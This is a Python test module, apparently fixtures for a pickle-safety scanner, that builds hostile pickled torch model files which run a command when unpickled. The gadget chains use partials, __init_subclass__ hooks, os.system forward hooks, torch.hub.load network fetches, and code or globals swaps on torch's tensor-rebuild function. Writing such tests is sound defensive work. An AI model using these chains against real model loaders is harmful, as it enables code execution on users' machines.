"""Programs of harmless names only, put together so that a client that unpickles them runs something."""

from tests.ai.hostile.building import (
    BUILD,
    DICT,
    EMPTY,
    HOSTILE,
    NEWOBJ,
    NONE,
    ORDERED,
    POP,
    SETITEM,
    TOUCH,
    call,
    hostile,
    listed,
    module,
    named,
    number,
    path,
    saved,
    several,
    stacked,
    state_dict,
    text,
)  # fmt: skip
from tests.ai.hostile.pickles import BACK_DOOR, MARK_PATH, PARTIAL

# Nothing here names the standard library beyond what modules really hold, and yet a client that
# unpickles it runs a command.


@hostile("functions that look harmless, put together", HOSTILE, armed=True)
def put_together() -> bytes:
    """A class made by `type` whose `__str__` is a partial; `str` of its instance calls it."""
    made = call(
        path("builtins", "type"), text("C"), several(path("builtins", "object")),
        named({"__str__": call(PARTIAL, BACK_DOOR, text(TOUCH))}),
    )  # fmt: skip
    thing = call(path("copyreg", "_reconstructor"), made, path("builtins", "object"), NONE)
    # str() raises since __str__ gives a number; by then the command has run.
    return saved(module({"helper": call(path("builtins", "str"), thing)}), protocol=4)


@hostile("a class whose subclasses run something", HOSTILE, armed=True)
def subclass() -> bytes:
    """`type` calls `__init_subclass__` of the base, which is a partial."""
    base = call(
        path("builtins", "type"), text("Base"), several(path("builtins", "object")),
        named({"__init_subclass__": call(PARTIAL, BACK_DOOR, text(TOUCH))}),
    )  # fmt: skip
    return saved(
        module({"helper": call(path("builtins", "type"), text("C"), several(base), DICT)}),
        protocol=4,
    )


@hostile("a class whose subclasses load from the network", HOSTILE)
def loading_subclass() -> bytes:
    load = call(PARTIAL, path("torch.hub", "load"), text("someone/something"), text("net"))
    base = call(
        path("builtins", "type"), text("Base"), several(path("builtins", "object")),
        named({"__init_subclass__": load}),
    )  # fmt: skip
    return saved(module({"helper": call(path("builtins", "type"), text("C"), several(base), DICT)}))


@hostile("a list of what a mapper of torch's computes", HOSTILE)
def mapped() -> bytes:
    """`list` asks the mapper for its items, and it calls its function for each."""
    mapper = path("torch.utils.data.datapipes.iter.callable", "MapperIterDataPipe")
    state = {
        "datapipe": listed(MARK_PATH), "fn": path("torch.jit", "load"), "input_col": NONE,
        "output_col": NONE, "_valid_iterator_id": NONE, "_number_of_samples_yielded": number(0),
    }  # fmt: skip
    made = mapper + EMPTY + NEWOBJ + named(state) + BUILD
    return saved(module({"helper": call(path("builtins", "list"), made)}))


@hostile("a back door as an attribute of a module", HOSTILE)
def back_door_as_attribute() -> bytes:
    return saved(module({"forward": call(PARTIAL, BACK_DOOR, text(TOUCH))}), protocol=4)


@hostile("a back door as a hook", HOSTILE)
def back_door_as_hook() -> bytes:
    hooks = call(ORDERED) + number(0) + stacked("torch.hub", "os.system") + SETITEM
    return saved(module({"_forward_pre_hooks": hooks}), protocol=4)


@hostile("a back door through a class of the client's", HOSTILE)
def back_door_of_user() -> bytes:
    call_it = call(PARTIAL, stacked("hospital.models", "os.system"), text(TOUCH))
    return saved(module({"forward": call_it}), protocol=4)


REBUILD = "_rebuild_tensor_v2"


@hostile("torch's rebuilding function is given other code", HOSTILE)
def other_code() -> bytes:
    change = call(
        stacked("torch._utils", f"{REBUILD}.__setattr__"), text("__code__"),
        stacked("torch.hub", "load.__code__"),
    )  # fmt: skip
    return saved(change + POP + state_dict(), protocol=4)


@hostile("torch's rebuilding function is given other globals", HOSTILE)
def other_globals() -> bytes:
    change = call(
        stacked("torch._utils", f"{REBUILD}.__globals__.update"),
        named({"torch": path("hospital.models", "torch")}),
    )
    return saved(change + POP + state_dict(), protocol=4)


@hostile("torch's rebuilding function makes another", HOSTILE)
def another_function() -> bytes:
    made = call(
        stacked("torch._utils", f"{REBUILD}.__class__"),
        stacked("torch.hub", "load.__code__"), DICT,
    )  # fmt: skip
    return saved(module({"helper": made}), protocol=4)


@hostile("copyreg runs the constructor of a class of torch's", HOSTILE)
def reconstructor() -> bytes:
    cls = path("torch.package", "PackageImporter")
    return saved(module({"helper": call(path("copyreg", "_reconstructor"), cls, cls, MARK_PATH)}))
